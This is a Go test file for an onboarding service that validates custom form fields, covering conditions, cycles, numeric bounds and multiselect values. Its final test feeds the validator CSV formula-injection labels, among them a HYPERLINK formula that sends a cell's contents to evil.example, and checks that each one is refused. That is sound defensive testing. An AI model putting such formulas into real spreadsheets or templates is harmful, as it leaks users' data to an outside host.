package org

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"onboarding/shared/fault"
)

func num(f float64) *float64 { return &f }

// healthFields are the health-services fields: a therapy service asks for a
// description for the therapist.
func healthFields() []CustomField {
	return []CustomField{
		{Key: "services", Label: "Services", Type: FieldMultiselect, AllowedValues: []string{"therapy", "homeCare", "transport"}},
		{Key: "therapistDescription", Label: "For the therapist", Type: FieldText,
			RequiredWhen: &Condition{Field: "services", Equals: "therapy"}},
		{Key: "credits", Label: "Credits", Type: FieldNumber, Min: num(0), Max: num(100), Integer: true},
		{Key: "costCentre", Label: "Cost centre", Type: FieldText, Required: true},
	}
}

func TestCheckCustomFieldsConditionsAndBounds(t *testing.T) {
	var errs fault.Fields
	CheckCustomFields(healthFields(), &errs)
	if len(errs) != 0 {
		t.Fatalf("the health-services fields: %v", errs)
	}
	cases := []struct {
		name   string
		change func([]CustomField) []CustomField
		field  string
		says   string
	}{
		{"unknown field", func(fs []CustomField) []CustomField {
			fs[1].RequiredWhen.Field = "service"
			return fs
		}, "customFields[1].requiredWhen.field", `no field "service"`},
		{"value it cannot have", func(fs []CustomField) []CustomField {
			fs[1].RequiredWhen.Equals = "massage"
			return fs
		}, "customFields[1].requiredWhen.equals", "not a value services can have"},
		{"itself", func(fs []CustomField) []CustomField {
			fs[1].RequiredWhen = &Condition{Field: "therapistDescription", Equals: "x"}
			return fs
		}, "customFields[1].requiredWhen.field", "itself"},
		{"cycle", func(fs []CustomField) []CustomField {
			fs[0].RequiredWhen = &Condition{Field: "therapistDescription", Equals: "x"}
			return fs
		}, "customFields[0].requiredWhen.field", "cycle: services requires therapistDescription"},
		{"always required", func(fs []CustomField) []CustomField {
			fs[1].Required = true
			return fs
		}, "customFields[1].requiredWhen", "always required"},
		{"bounds on text", func(fs []CustomField) []CustomField {
			fs[3].Min = num(1)
			return fs
		}, "customFields[3]", "only for type number"},
		{"min above max", func(fs []CustomField) []CustomField {
			fs[2].Min = num(200)
			return fs
		}, "customFields[2].max", "at least min"},
		{"two values of a multiselect", func(fs []CustomField) []CustomField {
			fs[1].RequiredWhen.Equals = "therapy;homeCare"
			return fs
		}, "customFields[1].requiredWhen.equals", "not a value services can have"},
		{"a label twice", func(fs []CustomField) []CustomField {
			fs[3].Label = "credits"
			return fs
		}, "customFields[3].label", "used twice"},
		{"separator in a multiselect value", func(fs []CustomField) []CustomField {
			fs[0].AllowedValues = append(fs[0].AllowedValues, "a;b")
			return fs
		}, "customFields[0].allowedValues", "may not contain ;"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var errs fault.Fields
			CheckCustomFields(c.change(healthFields()), &errs)
			if !slices.ContainsFunc(errs, func(e fault.FieldError) bool {
				return e.Field == c.field && strings.Contains(e.Message, c.says)
			}) {
				t.Fatalf("want %s %q, got %v", c.field, c.says, errs)
			}
		})
	}
}

func TestCheckValues(t *testing.T) {
	fs := healthFields()
	cases := []struct {
		name  string
		in    string // JSON, as the API has it
		field string // "" for no error
		says  string
	}{
		{"therapy without a description", `{"services":["therapy"],"costCentre":"A1"}`,
			"attributes.therapistDescription", "therapistDescription is required when services includes therapy"},
		{"therapy with one", `{"services":["homeCare","therapy"],"therapistDescription":"Back pain","costCentre":"A1"}`, "", ""},
		{"no therapy, no description", `{"services":["homeCare"],"costCentre":"A1"}`, "", ""},
		{"values in a string, as a roster has them", `{"services":"therapy; transport","therapistDescription":"x","costCentre":"A1"}`, "", ""},
		{"a value not allowed", `{"services":["therapy","massage"],"costCentre":"A1"}`, "attributes.services", `"massage" is not one of the allowed values`},
		{"always required", `{}`, "attributes.costCentre", "costCentre is required"},
		{"credits above max", `{"credits":"101","costCentre":"A1"}`, "attributes.credits", "from 0 to 100"},
		{"credits not whole", `{"credits":2.5,"costCentre":"A1"}`, "attributes.credits", "a whole number"},
		{"credits as a JSON number", `{"credits":12,"costCentre":"A1"}`, "", ""},
		{"unknown key", `{"costCentre":"A1","shoeSize":"44"}`, "attributes.shoeSize", "not a field"},
		{"a list for a text field", `{"costCentre":["A1"]}`, "attributes.costCentre", "a string"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var in Attributes
			if err := json.Unmarshal([]byte(c.in), &in); err != nil {
				t.Fatal(err)
			}
			var errs fault.Fields
			out := CheckValues(fs, in, &errs)
			if c.field == "" {
				if len(errs) != 0 {
					t.Fatalf("errors: %v", errs)
				}
				return
			}
			if len(errs) != 1 || errs[0].Field != c.field || !strings.Contains(errs[0].Message, c.says) {
				t.Fatalf("want %s %q, got %v (%v)", c.field, c.says, errs, out)
			}
		})
	}

	// A multiselect is stored in the allowed values' order; a value stored
	// as one string before the field was multi-select reads as a set.
	var errs fault.Fields
	out := CheckValues(fs, Attributes{"services": []any{"transport", "therapy", "therapy"}, "therapistDescription": "x", "costCentre": "A1"}, &errs)
	if len(errs) != 0 || !slices.Equal(out["services"].([]string), []string{"therapy", "transport"}) {
		t.Fatalf("canonical: %v %v", out, errs)
	}
	out = CheckValues(fs, Attributes{"services": "homeCare", "costCentre": "A1"}, &errs)
	if len(errs) != 0 || !slices.Equal(out["services"].([]string), []string{"homeCare"}) {
		t.Fatalf("an old single value: %v %v", out, errs)
	}
}

// TestLabelsAreNoFormulas: a label heads a roster template's column, so one
// a spreadsheet would run is refused (review: formula in the CSV template).
func TestLabelsAreNoFormulas(t *testing.T) {
	for _, label := range []string{`=HYPERLINK("https://evil.example/?"&A2,"Click")`, "+A1", "-x", "@SUM(A1)", "\tx", "＝1"} {
		var errs fault.Fields
		CheckCustomFields([]CustomField{{Key: "k", Label: label, Type: FieldText}}, &errs)
		if len(errs) != 1 || errs[0].Field != "customFields[0].label" {
			t.Errorf("label %q: %v", label, errs)
		}
	}
}
